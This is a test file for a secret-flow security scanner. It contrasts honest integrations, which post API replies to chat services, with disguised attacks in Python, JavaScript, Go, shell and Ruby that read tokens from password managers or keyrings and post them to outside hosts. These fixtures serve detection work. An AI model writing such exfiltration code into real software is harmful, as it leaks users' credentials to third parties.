/**
 * The ninth precision round: data a request returns is the service's answer, not the secret that
 * signed the request. An honest integration reads a login (a password manager, a keyring, a CLI
 * token), asks the vendor's API for data and posts that data to a chat; the secret-flow reader
 * followed the secret into every function that touched it and out through its return value, so
 * a camera snapshot became "the secret sent to Telegram". Each honest form stands beside attacks
 * that try to hide the secret itself behind the same shape (a request made in passing, a reply-like
 * name, an attribute) and must stay blocked.
 */
import { describe, it } from "vitest";
import { atMostMedium, blocked, scanOf } from "./severity-asserts.js";

describe("a reply of a request signed with a secret, posted elsewhere", () => {
  it("Python: 1Password login traded for a token, the camera image it returns posted to Telegram", () => {
    atMostMedium(scanOf({
      "cam.py": [
        "import json, subprocess, urllib.request, urllib.parse",
        "def creds():",
        "    out = {}",
        "    for f in ['client_id', 'client_secret', 'refresh_token']:",
        "        r = subprocess.run(['op', 'read', f'op://Home/Camera API/{f}'], capture_output=True, text=True)",
        "        out[f] = r.stdout.strip()",
        "    return out",
        "def access_token():",
        "    c = creds()",
        "    body = urllib.parse.urlencode({'client_id': c['client_id'], 'client_secret': c['client_secret'], 'refresh_token': c['refresh_token'], 'grant_type': 'refresh_token'}).encode()",
        "    with urllib.request.urlopen(urllib.request.Request('https://oauth2.googleapis.com/token', data=body)) as resp:",
        "        result = json.loads(resp.read())",
        "    cache['token'] = result['access_token']",
        "    return cache['token']",
        "def snapshot(device):",
        "    tok = access_token()",
        "    req = urllib.request.Request(f'https://smartdevicemanagement.googleapis.com/v1/{device}:executeCommand', headers={'Authorization': f'Bearer {tok}'})",
        "    with urllib.request.urlopen(req) as resp:",
        "        image = resp.read()",
        "    return image",
        "def post_photo(data):",
        "    req = urllib.request.Request(f'https://api.telegram.org/bot{BOT}/sendPhoto', data=data)",
        "    urllib.request.urlopen(req)",
        "cache = {}",
        "post_photo(snapshot('cam-1'))",
        "",
      ].join("\n"),
    }));
  });

  it("JavaScript: a keyring GitHub token signs the API call, the issue list it returns is posted to Slack", () => {
    atMostMedium(scanOf({
      "digest.js": [
        'const keytar = require("keytar");',
        "async function issues(repo) {",
        '  const token = await keytar.getPassword("github", "me");',
        "  const r = await fetch(`https://api.github.com/repos/${repo}/issues`, {",
        "    headers: { Authorization: `Bearer ${token}` },",
        "  });",
        "  return r.json();",
        "}",
        "async function summary(repo) {",
        "  const list = await issues(repo);",
        '  return list.map((i) => `#${i.number} ${i.title}`).join("\\n");',
        "}",
        "async function main() {",
        '  const text = await summary("me/app");',
        '  await fetch(`https://slack.com/api/chat.postMessage?channel=${process.env.CHANNEL}`, { method: "POST", body: JSON.stringify({ text }) });',
        "}",
        "main();",
        "",
      ].join("\n"),
    }));
  });

  it("Go: a 1Password token signs a request, the body client.Do returns goes to a Discord channel", () => {
    atMostMedium(scanOf({
      "main.go": [
        "package main",
        'import ("bytes"; "io"; "net/http"; "os"; "os/exec"; "strings")',
        "func ghToken() string {",
        '\tout, _ := exec.Command("op", "read", "op://Dev/GitHub/token").Output()',
        "\treturn strings.TrimSpace(string(out))",
        "}",
        "func notifications() []byte {",
        "\ttok := ghToken()",
        '\treq, _ := http.NewRequest("GET", "https://api.github.com/notifications", nil)',
        '\treq.Header.Set("Authorization", "Bearer "+tok)',
        "\tresp, _ := http.DefaultClient.Do(req)",
        "\tbody, _ := io.ReadAll(resp.Body)",
        "\treturn body",
        "}",
        "func main() {",
        "\tdata := notifications()",
        '\thttp.Post("https://discord.com/api/v10/channels/"+os.Getenv("CHAN")+"/messages", "application/json", bytes.NewReader(data))',
        "}",
        "",
      ].join("\n"),
    }));
  });

  it("shell: a function signs a vendor request with the pass token and prints the reply, which is posted to a chat", () => {
    atMostMedium(scanOf({
      "report.sh": [
        "#!/bin/bash",
        "TOKEN=$(pass show todoist/api-token)",
        "tasks() {",
        '  curl -s -H "Authorization: Bearer $TOKEN" https://api.todoist.com/rest/v2/tasks',
        "}",
        'list=$(tasks | jq -r ".[].content")',
        'curl -s -X POST "https://api.telegram.org/bot$BOT/sendMessage" -d chat_id="$CHAT" --data-urlencode text="$list"',
        "",
      ].join("\n"),
    }));
  });
});

describe("the secret itself, behind the same shapes, stays blocked", () => {
  it("Python: a function that makes a request in passing but returns the secret hands it on", () => {
    blocked(scanOf({
      "cam.py": [
        "import subprocess, requests",
        "def creds():",
        "    return subprocess.run(['op', 'read', 'op://Home/Camera API/refresh_token'], capture_output=True, text=True).stdout",
        "def access_token():",
        "    c = creds()",
        "    requests.post('https://oauth2.googleapis.com/token', data={'refresh_token': c})",
        "    return c",
        "def upload():",
        "    t = access_token()",
        "    requests.post('https://cam-backup.cloudsnap.io/v1/frames', data={'frame': t})",
        "upload()",
        "",
      ].join("\n"),
    }));
  });

  it("Python: a dictionary named like a session, looked up by key, is the secret and not a reply", () => {
    blocked(scanOf({
      "sync.py": [
        "import subprocess, requests",
        "def load():",
        "    raw = subprocess.check_output(['bw', 'get', 'password', 'github'])",
        "    return {'token': raw}",
        "def session_token():",
        "    session = load()",
        "    return session.get('token')",
        "def push():",
        "    requests.post('https://telemetry.devsync.app/ingest', json={'v': session_token()})",
        "push()",
        "",
      ].join("\n"),
    }));
  });

  it("Python: the secret kept in an attribute and returned from a method that also calls the API", () => {
    blocked(scanOf({
      "client.py": [
        "import subprocess, requests",
        "def read_secret():",
        "    return subprocess.check_output(['security', 'find-generic-password', '-s', 'stripe', '-w']).decode()",
        "class Api:",
        "    def login(self):",
        "        self.key = read_secret()",
        "        requests.get('https://api.stripe.com/v1/account', auth=(self.key, ''))",
        "        return self.key",
        "def main():",
        "    k = Api().login()",
        "    requests.post('https://billing-mirror.payfast.dev/keys', data={'k': k})",
        "main()",
        "",
      ].join("\n"),
    }));
  });

  it("JavaScript: a function returning an object built from the keyring secret over several lines hands it on", () => {
    blocked(scanOf({
      "agent.js": [
        'const keytar = require("keytar");',
        "async function creds() {",
        '  const t = await keytar.getPassword("openai", "default");',
        '  await fetch("https://api.openai.com/v1/models", { headers: { Authorization: `Bearer ${t}` } });',
        "  return {",
        "    key: t,",
        '    org: "me",',
        "  };",
        "}",
        "async function main() {",
        "  const c = await creds();",
        '  await fetch("https://metrics.llm-usage.net/v1/collect", { method: "POST", body: JSON.stringify(c) });',
        "}",
        "main();",
        "",
      ].join("\n"),
    }));
  });

  it("Go: a token function that also calls client.Do still returns the token", () => {
    blocked(scanOf({
      "main.go": [
        "package main",
        'import ("net/http"; "net/url"; "os/exec")',
        "func token() string {",
        '\tout, _ := exec.Command("gh", "auth", "token").Output()',
        '\treq, _ := http.NewRequest("GET", "https://api.github.com/user", nil)',
        "\thttp.DefaultClient.Do(req)",
        "\treturn string(out)",
        "}",
        "func wrap() string {",
        "\tt := token()",
        '\treq, _ := http.NewRequest("GET", "https://api.github.com/rate_limit", nil)',
        "\thttp.DefaultClient.Do(req)",
        "\treturn t",
        "}",
        "func main() {",
        '\thttp.PostForm("https://gh-stats.devpulse.io/t", url.Values{"t": {wrap()}})',
        "}",
        "",
      ].join("\n"),
    }));
  });

  it("shell: a function that echoes the pass token after a vendor request hands it on", () => {
    blocked(scanOf({
      "sync.sh": [
        "#!/bin/bash",
        "TOKEN=$(pass show todoist/api-token)",
        "check() {",
        '  curl -s -H "Authorization: Bearer $TOKEN" https://api.todoist.com/rest/v2/projects >/dev/null',
        '  echo "$TOKEN"',
        "}",
        "t=$(check)",
        'curl -s -X POST https://todo-sync.taskrelay.io/v1/import -d "key=$t"',
        "",
      ].join("\n"),
    }));
  });

  it("Ruby: the last expression of a method that also calls the API is its value", () => {
    blocked(scanOf({
      "sync.rb": [
        "require 'net/http'",
        "def secret",
        "  `security find-generic-password -s openai -w`.strip",
        "end",
        "def key",
        "  k = secret",
        "  return nil if k.empty?",
        "  Net::HTTP.get(URI('https://api.openai.com/v1/models'))",
        "  k",
        "end",
        "Net::HTTP.post_form(URI('https://gpt-usage.tokenmeter.co/k'), 'k' => key)",
        "",
      ].join("\n"),
    }));
  });
});
